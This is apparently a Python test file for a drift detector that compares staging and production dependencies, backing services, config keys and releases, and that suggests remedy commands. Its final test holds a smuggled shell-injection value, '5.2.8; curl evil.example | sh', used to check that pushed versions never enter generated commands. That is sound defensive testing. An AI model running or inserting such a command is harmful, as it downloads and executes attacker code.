"""Verdicts of the shipped pack, the clocks they hang on, and the rules that overrule it."""

from collections.abc import Mapping, Sequence
from datetime import timedelta
from typing import Any

import pytest

from detector.engine.comparison import ServiceVerdicts
from detector.engine.policy import Environment, Pair
from detector.engine.rules import Allowance, Match, Outcome, Rule
from detector.model.facts import Section, Value
from detector.model.words import SectionName
from tests.builders import (
    DEV,
    DEV_TO_STAGING,
    FINGERPRINTER,
    NOW,
    PROD,
    ROTATED,
    STAGING_TO_PROD,
    ago,
    compare,
    drifts,
    interval,
    keys,
    only,
    section,
    tier,
    told,
)

DJANGO = "pkg:pypi/django"
DEV_TO_PROD = Pair(left=DEV, right=PROD)
EU = Environment(name="prod-eu", tier="production", group="prod")
US = Environment(name="prod-us", tier="production", group="prod")
PEERS = Pair(left=EU, right=US, peers=True)


def packages(hints: Mapping[str, Any] | None = None, **versions: Value) -> Mapping[SectionName, Section]:
    facts = {f"pkg:pypi/{name}": version for name, version in versions.items()}
    return {"dependencies": section(facts, hints=dict.fromkeys(facts, hints) if hints else {})}


def server(hints: Mapping[str, Any] | None = None, **facts: Value) -> Mapping[SectionName, Section]:
    named = {f"main#{aspect.replace('__', '/')}": value for aspect, value in facts.items()}
    return {"backing_services": section(named, hints={"main#version": hints} if hints else {})}


def config(**values: Any) -> Mapping[SectionName, Section]:
    return {"config": section(keys(**values))}


def since(**days: float) -> dict[tuple[str, tuple[str, str, str]], Sequence[Any]]:
    """Return histories in which both sides have had their django for some days."""
    return {
        (environment, ("main", "dependencies", DJANGO)): [interval(None, ago(days=count))]
        for environment, count in days.items()
    }


# -- dependencies -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("left", "right", "distance", "severity"),
    [
        ("4.2.26", "5.2.8", "major", "high"),
        ("5.1.0", "5.2.0", "minor", "medium"),
        ("5.2.7", "5.2.8", "patch", "low"),
        ("5.2.8rc1", "5.2.8", "prerelease", "low"),
        ("5.2.8", "5.2.8.post1", "revision", "info"),
        ("git+abc", "5.2.8", None, "medium"),  # without order: as grave as a minor one
        (["5.2.8"], ["5.2.8", "4.2.26"], None, "low"),  # an extra copy
    ],
)
def test_right_ahead_is_at_once_drift_by_distance(
    left: Value, right: Value, distance: str | None, severity: str
) -> None:
    one = only(compare(packages(django=left), packages(django=right)), DJANGO)
    assert (one.verdict, one.distance, one.severity) == ("drift", distance, severity)


def test_what_the_ecosystem_calls_equal_is_in_sync_with_both_texts() -> None:
    one = only(compare(packages(django="1.0"), packages(django="1.0.0")), DJANGO)
    assert (one.verdict, one.left and one.left.value, one.right.value) == ("in_sync", "1.0", "1.0.0")


@pytest.mark.parametrize(
    ("left", "right", "pair", "line"),
    [
        # Missing towards production is expected for 14 days, then medium; the other way it is info.
        (packages(django="5.2.8"), packages(other="1"), STAGING_TO_PROD, ("expected", "medium")),
        (packages(other="1"), packages(django="5.2.8"), STAGING_TO_PROD, ("drift", "info")),
    ],
)
def test_a_package_of_one_side_alone(left: Any, right: Any, pair: Pair, line: tuple[str, str]) -> None:
    one = only(compare(left, right, pair=pair), DJANGO)
    assert (one.verdict, one.severity) == line


@pytest.mark.parametrize(
    ("left", "right", "basis", "drift"),
    [
        (packages({"scope": ["dev"]}, pytest="9.2"), packages(), "running", {}),
        (packages({"scope": ["dev", "test"]}, pytest="9.2"), packages(pytest="8.0"), "running", {}),
        # Installed in production it runs there.
        (packages(), packages({"scope": ["dev"]}, pytest="9.2"), "running", {"pkg:pypi/pytest": "medium"}),
        (
            packages(),
            packages({"scope": ["dev", "runtime"]}, pytest="9.2"),
            "running",
            {"pkg:pypi/pytest": "info"},
        ),
    ],
)
def test_packages_of_development_matter_in_production_alone(
    left: Any, right: Any, basis: str, drift: dict[str, str]
) -> None:
    assert drifts(compare(left, right)) == drift


def test_a_package_of_development_in_the_lockfile_of_production_is_not_in_production() -> None:
    item, hints = "pkg:pypi/pytest", {"pkg:pypi/pytest": {"scope": ["dev"]}}
    left = {"dependencies": section({}, basis="declared")}
    right = {"dependencies": section({item: "9.2"}, basis="declared", hints=hints)}
    assert told(compare(left, right)) == []  # type: ignore[arg-type]  # names of sections are literals


def test_a_lockfiles_digest_is_a_cause_and_never_a_difference() -> None:
    left = {"dependencies": section({"lockfile#pypi": "a"})}
    right = {"dependencies": section({"lockfile#pypi": "b"})}
    assert told(compare(left, right)) == []  # type: ignore[arg-type]


# -- the clock of a lead ----------------------------------------------------------------------------------


def led_for(days: float, **more: Any) -> ServiceVerdicts:
    histories = {("staging", ("main", "dependencies", DJANGO)): [interval("5.2.8", ago(days=days))]}
    return compare(packages(django="5.2.8"), packages(django="5.2.7"), histories=histories, **more)


def test_a_lead_is_expected_until_it_is_spent_and_says_when_to_look_again() -> None:
    one = only(led_for(13), DJANGO)
    assert (one.verdict, one.since, one.review_at) == ("expected", ago(days=13), NOW + timedelta(days=1))
    spent = only(led_for(14), DJANGO)
    assert (spent.verdict, spent.severity, spent.review_at) == ("drift", "low", None)
    assert spent.rule == "default/dependencies (allowed 14d, spent)"


def test_a_lead_without_a_known_history_starts_now() -> None:
    one = only(compare(packages(django="5.2.8"), packages(django="5.2.7")), DJANGO)
    assert (one.verdict, one.since, one.review_at) == ("expected", NOW, NOW + timedelta(days=14))


def test_a_lead_may_be_bounded_by_versions() -> None:
    bounded = Rule(
        name="r",
        match=Match(section=("dependencies",)),
        outcome=Outcome(allow_ahead=Allowance(span=timedelta(days=30), versions=2)),
    )

    def of(*versions: str) -> str:
        history = [interval(version, ago(days=9 - number)) for number, version in enumerate(versions)]
        verdicts = compare(
            packages(django=versions[-1]),
            packages(django="5.2.5"),
            rules=[bounded],
            histories={("staging", ("main", "dependencies", DJANGO)): history},
        )
        return only(verdicts, DJANGO).verdict

    assert of("5.2.5", "5.2.6", "5.2.7") == "expected"
    assert of("5.2.5", "5.2.6", "5.2.7", "5.2.8") == "drift"


def test_an_allowance_that_outlasts_the_calendar_is_endless() -> None:
    endless = Rule(name="r", outcome=Outcome(allow_ahead=Allowance(span=timedelta(days=999_999_999))))
    one = only(led_for(500, rules=[endless]), DJANGO)
    assert (one.verdict, one.review_at) == ("expected", None)


def test_the_history_of_a_stream_without_component_is_that_of_every_process_type() -> None:
    from tests.builders import stream

    histories = {("staging", ("main", "dependencies", DJANGO)): [interval("5.2.8", ago(days=20))]}
    right = [stream(packages(django="5.2.7"), component=name) for name in ("web", "worker")]
    verdicts = compare(packages(django="5.2.8"), right, histories=histories)
    assert [one.verdict for one in verdicts.items] == ["drift", "drift"]


# -- backing services -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("left", "right", "lines"),
    [
        (
            server(product="postgresql", version="16.3"),
            server(product="postgresql", version="14.9"),
            [("main#version", "difference", "drift", "critical")],
        ),
        (
            server(product="aurora-postgresql", version="16.3"),
            server(product="aurora-postgresql", version="14.9"),
            [("main#version", "difference", "drift", "critical")],  # a database, too
        ),
        (
            server(product="redis", version="7.2.4"),
            server(product="redis", version="6.2.14"),
            [("main#version", "difference", "drift", "high")],
        ),
        (
            server(product="redis", version="7.2.4"),
            server(product="redis", version="7.0.15"),
            [("main#version", "difference", "expected", "medium")],  # three days of skew
        ),
        (
            server(product="postgresql"),
            server(product="mysql"),
            [("main#product", "difference", "drift", "critical")],
        ),
        (
            server(product="redis"),
            server(product="valkey"),
            [("main#product", "variant", "drift", "medium")],
        ),
        (server(product="postgres"), server(product="postgresql"), []),  # two names of one product
        (server(endpoint_class="private"), server(endpoint_class="public"), "expected"),
        (server(tls=True), server(), [("main#tls", "difference", "drift", "medium")]),
        (server(tls=True), server(tls=False), [("main#tls", "difference", "drift", "medium")]),
        (
            server(extension__postgis="3.4"),
            server(extension__postgis="3.3"),
            [("main#extension/postgis", "difference", "drift", "medium")],
        ),
        (
            server(setting__sql_mode="ansi"),
            server(setting__sql_mode=""),
            [("main#setting/sql_mode", "difference", "drift", "medium")],
        ),
        (server(setting__max_connections=100), server(setting__max_connections=900), "expected"),
    ],
)
def test_backing_services_by_the_shipped_pack(left: Any, right: Any, lines: Any) -> None:
    found = told(compare(left, right))
    if lines == "expected":
        assert [line[2] for line in found] == ["expected"]
    else:
        assert found == lines


MANAGED = {"managed": True, "auto_minor_upgrade": True}


@pytest.mark.parametrize(
    ("left", "right", "hints", "days", "verdict"),
    [
        ("16.4", "16.3", None, 2, "expected"),
        ("16.3", "16.4", None, 2, "expected"),  # either way
        ("16.4", "16.3", None, 3, "drift"),
        ("16.4", "16.3", MANAGED, 9, "expected"),  # the windows of automatic upgrades are not synchronised
        ("16.4", "16.3", MANAGED, 10, "drift"),
        ("17.1", "16.3", MANAGED, 0, "drift"),  # a major never
    ],
)
def test_a_minor_upgrade_may_reach_one_side_first(
    left: str, right: str, hints: Mapping[str, Any] | None, days: int, verdict: str
) -> None:
    histories = {("prod", ("main", "backing_services", "main#version")): [interval(right, ago(days=days))]}
    verdicts = compare(
        server(hints, product="postgresql", version=left),
        server(product="postgresql", version=right),
        histories=histories,
    )
    assert only(verdicts, "main#version").verdict == verdict


@pytest.mark.parametrize(
    ("declared", "running", "verdict"),
    [
        ("16", "16.3", "in_sync"),
        ("16.3", "16.3", "in_sync"),
        ("16.2", "16.3", "expected"),
        ("15", "16.3", "drift"),
    ],
)
def test_a_declared_tag_is_compared_at_its_own_precision(declared: str, running: str, verdict: str) -> None:
    left = {
        "backing_services": section(
            {"main#product": "postgresql", "main#version": declared}, basis="declared"
        )
    }
    verdicts = compare(left, server(product="postgresql", version=running))  # type: ignore[arg-type]
    found = [one.verdict for one in verdicts.items if one.key.item == "main#version" and one.left is not None]
    assert (found or ["in_sync"]) == [verdict]


# -- config -----------------------------------------------------------------------------------------------

READ = {"KEY": [{"at": "billing/hooks.py:14", "default": False}]}
DEFAULTED = {"KEY": [{"at": "billing/hooks.py:14", "default": True}]}
UNREAD = {"OTHER": [{"at": "billing/hooks.py:2", "default": False}]}


@pytest.mark.parametrize(
    ("pair", "side", "reads", "severity"),
    [
        (STAGING_TO_PROD, "left", None, "high"),
        (DEV_TO_PROD, "left", None, "high"),  # production counts, wherever from
        (DEV_TO_STAGING, "left", None, "info"),
        (Pair(left=tier("a", "unknown"), right=tier("b", "unknown")), "left", None, "medium"),
        (STAGING_TO_PROD, "right", None, "medium"),
        (DEV_TO_STAGING, "right", None, "info"),
        (DEV_TO_STAGING, "left", READ, "high"),  # read without a default
        (STAGING_TO_PROD, "left", DEFAULTED, "info"),
        (STAGING_TO_PROD, "left", UNREAD, "info"),  # the code was looked at, and does not read it
        (STAGING_TO_PROD, "right", READ, "high"),
    ],
)
def test_a_missing_key(pair: Pair, side: str, reads: Any, severity: str) -> None:
    has: Any = {"config": section(keys(KEY="some text"), reads=reads)}
    lacks: Any = {"config": section({})}
    verdicts = compare(has, lacks, pair=pair) if side == "left" else compare(lacks, has, pair=pair)
    assert only(verdicts, "KEY").severity == severity


@pytest.mark.parametrize(
    ("left", "right", "lines"),
    [
        ("some text", "other text", []),  # values differ: normal
        ("12", "some text", [("KEY", "difference", "drift", "medium")]),
        ("some text", "", [("KEY", "difference", "drift", "high")]),  # empty counts as missing
        ("", "some text", [("KEY", "difference", "drift", "medium")]),
        ("postgres://db/x", "sqlite:///x.db", [("KEY", "substitution", "drift", "critical")]),
        ("postgres://db/x", "postgresql+asyncpg://db/x", []),
        ("${A}", "some text", [("KEY", "difference", "drift", "medium")]),
    ],
)
def test_the_types_of_a_key(left: str, right: str, lines: list[tuple[str, str, str, str]]) -> None:
    assert told(compare(config(KEY=left), config(KEY=right))) == lines


def test_keys_that_a_platform_injects_are_nobodys() -> None:
    assert told(compare(config(DYNO="web.1", KUBERNETES_PORT="tcp://10.0.0.1:443"), config(K="1"))) == [
        ("K", "difference", "drift", "medium")
    ]


def expecting(expect: str | tuple[str, ...], **more: Any) -> list[Rule]:
    return [Rule(name="r", match=Match(section=("config",)), outcome=Outcome(expect=expect, **more))]


@pytest.mark.parametrize(
    ("expect", "left", "right", "lines"),
    [
        ("equal", "some text", "some text", []),
        ("equal", "some text", "other text", [("KEY", "difference", "drift", "medium")]),
        ("differ", "some text", "other text", []),
        ("differ", "some text", "some text", [("KEY", "difference", "drift", "medium")]),  # equal, and asked
        ("any", "12", "some text", [("KEY", "difference", "expected", "medium")]),
        # Short words have no fingerprint: nothing is green that was not checked.
        ("equal", "debug", "info", [("KEY", "difference", "unknown", "medium")]),
        ("equal", "debug", "12", [("KEY", "difference", "drift", "medium")]),
        ("equal", "", "", []),
    ],
)
def test_what_may_be_expected_of_values(
    expect: str, left: str, right: str, lines: list[tuple[str, str, str, str]]
) -> None:
    assert told(compare(config(KEY=left), config(KEY=right), rules=expecting(expect))) == lines


@pytest.mark.parametrize(
    ("only_in", "left", "right", "verdict"),
    [
        (("staging",), True, False, "expected"),
        (("staging",), True, True, "drift"),  # equal, and still one too many
        (("staging",), False, True, "drift"),
        (("staging", "prod"), True, True, "in_sync"),
        (("staging", "prod"), True, False, "drift"),
    ],
)
def test_a_key_may_be_meant_for_some_environments_only(
    only_in: tuple[str, ...],
    verdict: str,
    *,
    left: bool,
    right: bool,
) -> None:
    sides = [config(KEY="some text") if has else {"config": section({})} for has in (left, right)]
    verdicts = compare(*sides, rules=expecting(only_in))  # type: ignore[arg-type]
    assert only(verdicts, "KEY").verdict == verdict


def test_fingerprints_of_two_keys_are_unknown_and_say_so() -> None:
    left = config(fingerprinter=FINGERPRINTER, KEY="some text")
    right = config(fingerprinter=ROTATED, KEY="some text")
    one = only(compare(left, right, rules=expecting("equal")), "KEY")
    assert (one.status, one.verdict, one.right.unknown) == ("unknown", "unknown", "key_rotated")
    assert told(compare(left, right)) == []  # presence is known


# -- codebase, release, the rest --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "left", "right", "lines"),
    [
        ("codebase", {"repo#url": "github.com/acme/a"}, {"repo#url": "github.com/acme/b"}, "critical"),
        ("release", {"image#repository": "acme/a"}, {"image#repository": "acme/b"}, "medium"),
        ("release", {"image#tag": "1.3.0"}, {"image#tag": "1.4.0"}, "medium"),
        ("release", {"image#tag": "4f1c2aa"}, {"image#tag": "8bd03ef"}, "low"),
        ("logs", {"format": "json"}, {"format": "text"}, "info"),
        ("disposability", {"grace": 10}, {"grace": 30}, "info"),
        ("dependencies", {"os#arch": "amd64"}, {"os#arch": "arm64"}, "medium"),
    ],
)
def test_the_other_sections_by_the_shipped_pack(name: Any, left: Any, right: Any, lines: str) -> None:
    assert list(drifts(compare({name: section(left)}, {name: section(right)})).values()) == [lines]


def test_a_tag_ahead_is_expected_for_a_week() -> None:
    def tagged(tag: str) -> Any:
        return {"release": section({"image#tag": tag})}

    one = only(compare(tagged("1.5.0"), tagged("1.4.0")), "image#tag")
    assert (one.verdict, one.review_at) == ("expected", NOW + timedelta(days=7))


@pytest.mark.parametrize("pair", [DEV_TO_STAGING, DEV_TO_PROD])
def test_a_rebuild_in_development_is_no_rebuild(pair: Pair) -> None:
    def image(digest: str) -> Any:
        return {"release": section({"image#tag": "1.4.2", "image#digest": digest})}

    assert drifts(compare(image("a"), image("b"))) == {"image#digest": "high"}
    assert drifts(compare(image("a"), image("b"), pair=pair)) == {}


def test_size_is_no_drift() -> None:
    found = compare({"concurrency": section({"replicas": 2})}, {"concurrency": section({"replicas": 9})})
    assert [one.verdict for one in found.items] == ["expected"]


def test_a_process_type_missing_in_production_is_medium() -> None:
    from tests.builders import stream

    web, worker = (stream(config(KEY="some text"), component=name) for name in ("web", "worker"))
    assert drifts(compare([web, worker], [web])) == {"process": "medium"}
    assert drifts(compare([web], [web, worker])) == {"process": "info"}


# -- peers ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("left", "right"),
    [
        (packages(django="5.2.8"), packages(django="4.2.26")),
        (packages(django="5.2.8"), packages(other="1")),
        (config(KEY="some text"), {"config": section({})}),
        (server(product="postgresql", version="16.3"), server(product="postgresql", version="14.9")),
    ],
)
def test_peers_have_no_order(left: Any, right: Any) -> None:
    def days(count: float) -> Any:
        places = {("main", "dependencies", DJANGO), ("main", "dependencies", "pkg:pypi/other")}
        places |= {("main", "config", "KEY"), ("main", "backing_services", "main#version")}
        return {
            (name, place): [interval("any", ago(days=count))]
            for name in ("prod-eu", "prod-us")
            for place in places
        }

    def lines(one: Any, other: Any, count: float) -> set[tuple[str, str, str]]:
        verdicts = compare(one, other, pair=PEERS, histories=days(count))
        assert {item.direction for item in verdicts.items} <= {None, "unordered"}
        return {(item.key.item, item.verdict, item.severity) for item in verdicts.items}

    for count, verdict in ((0.9, "expected"), (4, "drift")):
        there = lines(left, right, count)
        assert there == lines(right, left, count)
        assert {line[1] for line in there} == {verdict}


def test_what_a_peer_lost_yesterday_is_expected_since_yesterday() -> None:
    place = ("main", "dependencies", DJANGO)
    histories = {
        ("prod-eu", place): [interval("5.2.8", ago(days=90))],
        ("prod-us", place): [interval("5.2.8", ago(days=90), ago(hours=12))],
    }
    verdicts = compare(packages(django="5.2.8"), packages(x="1"), pair=PEERS, histories=histories)
    one = only(verdicts, DJANGO)
    assert (one.verdict, one.since) == ("expected", ago(hours=12))


# -- remedies ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("left", "right", "remedy"),
    [
        (
            packages(django="4.2.26"),
            packages(django="5.2.8"),
            "in staging: uv lock --upgrade-package django==5.2.8   # prod has it, staging does not",
        ),
        (
            packages(psycopg2="2.9.9"),
            {"dependencies": section({"pkg:pypi/psycopg2-binary": "2.9.10"})},
            "in staging: uv add psycopg2-binary==2.9.10   # prod has it, staging has psycopg2",
        ),
        (
            {"dependencies": section({"pkg:golang/example.org/a/v3": "v3.0.0"})},
            {"dependencies": section({"pkg:golang/example.org/a/v2": "v2.1.0"})},
            "in prod: go get example.org/a/v3@v3.0.0   # staging has it, prod has example.org/a/v2",
        ),
        (
            {"dependencies": section({"pkg:deb/debian/libstdc%2B%2B6": "12.2.0-14"})},
            {"dependencies": section({"pkg:deb/debian/libstdc%2B%2B6": "14.2.0-19"})},
            "in staging: apt-get install libstdc++6=14.2.0-19   # prod has it, staging does not",
        ),
        (config(KEY="some text"), config(OTHER="1"), "in prod: set KEY   # staging has it, prod does not"),
        (
            server(product="redis", version="7.2.4"),
            server(product="redis", version="6.2.14"),
            "in prod: upgrade shop to 7.2.4   # staging runs it",
        ),
        (
            config(API_TOKEN="some text"),
            config(API_TOKEN="some text"),
            "in staging: give API_TOKEN a value of its own, and rotate it in production",
        ),
    ],
)
def test_every_finding_ends_with_what_would_mend_it(left: Any, right: Any, remedy: str) -> None:
    assert remedy in {one.remedy for one in compare(left, right).items}


def test_a_version_that_somebody_pushed_never_becomes_part_of_a_command() -> None:
    hostile = "5.2.8; curl evil.example | sh"
    one = only(compare(packages(django=hostile), packages(django="4.2.26")), DJANGO)
    assert one.remedy == "in prod: install the django that staging has"
    assert one.left is not None
    assert one.left.value == hostile
